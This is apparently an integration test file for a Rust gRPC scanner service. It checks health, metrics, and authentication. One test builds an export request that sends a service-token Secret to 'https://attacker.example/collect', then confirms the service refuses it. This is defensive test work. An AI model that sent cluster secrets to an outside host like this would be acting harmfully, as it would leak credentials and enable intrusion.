//! The `vynil-scanner` binary as a real process: health, reflection, SIGTERM.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;

use vynil_proto::scanner::v1::{GetScanRequest, scanner_client::ScannerClient};
use vynil_testkit::ServiceProcess;

const SERVICE: &str = "vynil.scanner.v1.Scanner";

#[tokio::test]
async fn the_binary_serves_health_and_reflection_then_exits_cleanly_on_sigterm() {
    let service = ServiceProcess::start(Path::new(env!("CARGO_BIN_EXE_vynil-scanner")), &[]).await.unwrap();
    service.check_serves_then_stops(SERVICE).await.unwrap();
}

#[tokio::test]
async fn with_embedded_defaults_an_unknown_scan_is_not_found() {
    let dir = tempfile::tempdir().unwrap();
    let jukeboxes = dir.path().to_str().unwrap();
    // On loopback, as in local mode, where whoever reaches the port is the user.
    let args = ["--allow-unauthenticated", "--jukebox-dir", jukeboxes];
    let service = ServiceProcess::start(Path::new(env!("CARGO_BIN_EXE_vynil-scanner")), &args).await.unwrap();
    let mut client = ScannerClient::new(service.channel().await.unwrap());
    let status =
        client.get_scan(GetScanRequest { scan_id: "nope".into(), ..Default::default() }).await.unwrap_err();
    assert_eq!(status.code(), tonic::Code::NotFound, "{status:?}");
    let status = client
        .scan(vynil_proto::scanner::v1::ScanRequest { jukebox: "absent".into(), ..Default::default() })
        .await
        .unwrap_err();
    assert_eq!(status.code(), tonic::Code::NotFound, "{status:?}");
}

#[tokio::test]
async fn registry_requests_are_counted_in_the_metrics() {
    use vynil_testkit::{PackageSpec, PackageType, RegistryServer};
    let registry = RegistryServer::start().await.unwrap();
    let spec = PackageSpec::new("apps", "web", PackageType::Tenant, "1.0.0");
    registry.publisher().publish("apps/web", &spec).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let images = [format!("{}/apps/web", registry.host())];
    vynil_testkit::JukeboxBuilder::new("box")
        .list(images)
        .schedule("0 0 1 1 *")
        .write_to(dir.path())
        .unwrap();
    let jukeboxes = dir.path().to_str().unwrap();
    let args =
        ["--allow-unauthenticated", "--jukebox-dir", jukeboxes, "--insecure-registry", &registry.host()];
    let service = ServiceProcess::start(Path::new(env!("CARGO_BIN_EXE_vynil-scanner")), &args).await.unwrap();
    let mut client = ScannerClient::new(service.channel().await.unwrap());
    let request = vynil_proto::scanner::v1::ScanRequest { jukebox: "box".into(), ..Default::default() };
    let id = client.scan(request).await.unwrap().into_inner().scan_id;
    for _ in 0..300 {
        let state = client
            .get_scan(GetScanRequest { scan_id: id.clone(), ..Default::default() })
            .await
            .unwrap()
            .into_inner()
            .state;
        if state == vynil_proto::scanner::v1::ScanState::Succeeded as i32 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let metrics =
        reqwest::get(format!("{}/metrics", service.endpoint())).await.unwrap().text().await.unwrap();
    let line = "vynil_scanner_registry_requests_total{kind=\"list_tags\",outcome=\"200\"} 1";
    assert!(metrics.contains(line), "{metrics}");
    assert!(metrics.contains("vynil_scanner_registry_requests_total{kind=\"get_manifest\",outcome=\"200\"}"));
}

/// Whoever reaches the scanner's port (the observability NetworkPolicy opens
/// it; a cluster without an enforcing CNI opens everything) could trigger
/// scans, push notices and exports, and have an export read a Secret of the
/// control plane's namespace and send it where it says: only the gateway's
/// service token may, and then only to a listed destination.
#[tokio::test]
async fn an_unauthenticated_export_cannot_read_a_secret_nor_anyone_scan_or_notify() {
    use vynil_proto::scanner::v1::{ExportIndexRequest, NotifyPushRequest, Repository, ScanRequest};
    let dir = tempfile::tempdir().unwrap();
    vynil_testkit::JukeboxBuilder::new("box").list(["127.0.0.1:1/apps/web"]).write_to(dir.path()).unwrap();
    let token = dir.path().join("service-token");
    std::fs::write(&token, "scanner-test-service-token").unwrap();
    let (jukeboxes, token_file) = (dir.path().to_str().unwrap(), token.to_str().unwrap());
    let args = ["--jukebox-dir", jukeboxes, "--service-token-file", token_file];
    let service = ServiceProcess::start(Path::new(env!("CARGO_BIN_EXE_vynil-scanner")), &args).await.unwrap();
    let mut client = ScannerClient::new(service.channel().await.unwrap());
    let export = ExportIndexRequest {
        jukebox: "box".into(),
        destination: "https://attacker.example/collect".into(),
        secret: "vynil-service-token".into(),
    };
    let refusals = [
        client.export_index(export.clone()).await.unwrap_err(),
        client.scan(ScanRequest { jukebox: "box".into(), ..Default::default() }).await.unwrap_err(),
        client
            .notify_push(NotifyPushRequest {
                repository: Some(Repository {
                    registry: "127.0.0.1:1".into(),
                    repository: "apps/web".into(),
                }),
                ..Default::default()
            })
            .await
            .unwrap_err(),
    ];
    for (status, what) in refusals.iter().zip(["ExportIndex", "Scan", "NotifyPush"]) {
        assert_eq!(status.code(), tonic::Code::Unauthenticated, "{what}: {status:?}");
        assert!(status.message().contains(what) && status.message().contains("gateway"), "{status:?}");
    }
    // With the token, an unlisted destination is still refused, before any Secret is read.
    let mut request = tonic::Request::new(export);
    vynil_runtime::ServiceCredentials::new(Some("scanner-test-service-token"))
        .unwrap()
        .apply(&mut request, "ops");
    let status = client.export_index(request).await.unwrap_err();
    assert_eq!(status.code(), tonic::Code::FailedPrecondition, "{status:?}");
    assert!(status.message().contains("--export-destination"), "{status:?}");
}
